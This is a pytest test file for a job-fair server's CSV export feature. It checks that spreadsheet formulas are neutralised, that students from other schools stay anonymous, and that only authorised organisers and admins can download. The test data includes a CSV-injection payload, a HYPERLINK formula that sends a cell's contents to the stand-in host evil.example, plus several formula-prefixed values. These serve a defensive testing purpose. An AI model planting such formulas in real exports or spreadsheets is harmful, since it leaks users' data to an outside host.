"""Fair CSV exports: formula neutralisation, who is named, and who may download."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from fairserver.clock import utcnow
from fairserver.keys import DB
from fairserver.rooms.fairs import export
from fairserver.store import jobs
from fairserver.store import tables as t
from fairserver.store.db import Database
from tests.factories import World, build_world

Client = TestClient[Any, Any]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


async def add_evil_job(db: Database, world: World) -> int:
    async with db.begin() as conn:
        return await jobs.insert_job(
            conn,
            {
                "id": world.booth_a_campus,
                "fair_id": world.campus_fair,
                "company_id": world.company_a,
            },
            {
                "title": EVIL,
                "location": "+86 Tianjin",
                "salary_min": 1,
                "salary_max": 2,
                "education": "diploma",
                "headcount": 1,
                "description": "@SUM(1)",
            },
        )


async def add_interest(db: Database, job_id: int, *users: int) -> None:
    async with db.begin() as conn:
        for user_id in users:
            await conn.execute(
                t.job_interests.insert().values(job_id=job_id, user_id=user_id, created_at=utcnow())
            )


async def add_attendance(db: Database, world: World, fair_id: int, user: str) -> None:
    joined = datetime(2027, 1, 10, 2, 0, tzinfo=UTC)
    async with db.begin() as conn:
        await conn.execute(
            t.attendance.insert().values(
                user_id=world.users[user],
                fair_id=fair_id,
                kind="fair",
                subject_id=fair_id,
                connection_id="c1",
                joined_at=joined,
                last_seen_at=joined + timedelta(minutes=5),
                left_at=joined + timedelta(minutes=5),
                close_reason="leave",
            )
        )


# The service, on SQLite and PostgreSQL


async def test_every_export_kind_runs(db: Database) -> None:
    world = await build_world(db)
    job_id = await add_evil_job(db, world)
    await add_interest(db, job_id, world.users["student_a"])
    await add_attendance(db, world, world.campus_fair, "student_a")
    for kind in export.EXPORT_KINDS:
        text = await export.export_fair_csv(db, world.campus_fair, kind)
        assert text.startswith(",".join(export.EXPORTS[kind][1]))
    jobs_csv = rows_of(await export.export_fair_csv(db, world.campus_fair, "jobs"))
    evil = next(r for r in jobs_csv if r["job_id"] == str(job_id))
    assert evil["title"] == "'" + EVIL
    assert evil["location"] == "'+86 Tianjin"
    assert evil["interested"] == "1"
    attendance = rows_of(await export.export_fair_csv(db, world.campus_fair, "attendance"))
    assert attendance[0]["real_name"] == "Student A"
    # Stored at 02:00 UTC; the fair is in Asia/Shanghai.
    assert attendance[0]["joined_at"] == "2027-01-10 10:00:00"
    assert attendance[0]["seconds"] == "300"
    companies = rows_of(await export.export_fair_csv(db, world.campus_fair, "companies"))
    assert [(c["company"], c["status"], c["jobs"]) for c in companies] == [
        ("Company A", "approved", "3")
    ]


async def test_unknown_kind_or_fair(db: Database) -> None:
    world = await build_world(db)
    with pytest.raises(export.UnknownExport):
        await export.export_fair_csv(db, world.campus_fair, "passwords")
    with pytest.raises(export.UnknownExport):
        await export.export_fair_csv(db, 9999, "jobs")
    assert await export.export_fair_csv_by_slug(db, "nope", "jobs") is None
    by_slug = await export.export_fair_csv_by_slug(db, "campus", "jobs")
    assert by_slug is not None and "Offshore operator" in by_slug


async def test_other_schools_students_are_not_named(db: Database) -> None:
    """In school B's open fair, school A's student shows up, but not by name."""
    world = await build_world(db)
    async with db.connect() as conn:
        job_id = (
            (
                await conn.execute(
                    t.jobs.select()
                    .with_only_columns(t.jobs.c.id)
                    .where(t.jobs.c.fair_id == world.open_fair)
                )
            )
            .scalars()
            .first()
        )
    assert job_id is not None
    await add_interest(db, job_id, world.users["student_a"], world.users["student_b"])
    await add_attendance(db, world, world.open_fair, "student_a")
    interest = rows_of(await export.export_fair_csv(db, world.open_fair, "interest"))
    by_school = {r["school"]: r for r in interest}
    assert by_school["School B"]["real_name"] == "Student B"
    assert by_school["School B"]["student_no"] == "B001"
    assert by_school["School A"]["real_name"] == ""
    assert by_school["School A"]["student_no"] == "" and by_school["School A"]["major"] == ""
    attendance = rows_of(await export.export_fair_csv(db, world.open_fair, "attendance"))
    assert attendance[0]["school"] == "School A" and attendance[0]["real_name"] == ""


# Through HTTP


async def test_download_neutralises_formulas(client: Client, world: World) -> None:
    await add_evil_job(client.app[DB], world)
    await world.login(client, "organiser_a")
    response = await client.get("/organiser/fairs/campus/export/jobs.csv")
    assert response.status == 200
    assert response.content_type == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="campus-jobs.csv"'
    body = await response.read()
    assert body.startswith(b"\xef\xbb\xbf")  # so that Excel reads UTF-8
    titles = {r["title"] for r in rows_of(body.decode("utf-8"))}
    assert "'" + EVIL in titles
    assert EVIL not in titles
    assert "Offshore operator / 海上操作工" in titles


async def test_unknown_kind_is_404(client: Client, world: World) -> None:
    await world.login(client, "organiser_a")
    assert (await client.get("/organiser/fairs/campus/export/secrets.csv")).status == 404
    assert (await client.get("/organiser/fairs/nope/export/jobs.csv")).status == 404


@pytest.mark.parametrize("who", ["organiser_b", "student_a", "recruiter_a", "recruiter_b"])
async def test_export_refused_to_others(client: Client, world: World, who: str) -> None:
    await world.login(client, who)
    for kind in export.EXPORT_KINDS:
        response = await client.get(f"/organiser/fairs/campus/export/{kind}.csv")
        assert response.status == 404, kind
        assert response.content_type == "text/html"


async def test_export_anonymous_is_sent_to_login(client: Client, world: World) -> None:
    response = await client.get("/organiser/fairs/campus/export/jobs.csv", allow_redirects=False)
    assert response.status == 303 and response.headers["Location"].startswith("/login")


async def test_admin_downloads_any_fair(client: Client, world: World) -> None:
    await world.login(client, "admin")
    response = await client.get("/organiser/fairs/open/export/companies.csv")
    assert response.status == 200
    names = [r["company"] for r in rows_of(await response.text())]
    assert names == ["Company A", "Company B"]
